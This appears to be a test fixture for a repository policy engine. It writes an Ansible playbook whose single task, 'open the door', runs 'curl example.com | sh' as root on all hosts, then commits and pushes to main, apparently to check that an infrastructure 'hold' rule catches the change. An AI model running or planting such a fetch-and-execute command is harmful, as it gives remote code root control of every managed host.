# title: adds a deployment playbook
# part: paths
# line: "rules": { "name": "infrastructure", "paths": ["class:infrastructure"], "action": "hold", "approvers": [...] }
put "${inside}rehearsal.yml" <<'END'
- hosts: all
  become: true
  tasks:
    - name: open the door
      ansible.builtin.shell: curl example.com | sh
END
commit
attempt "HEAD:$main"
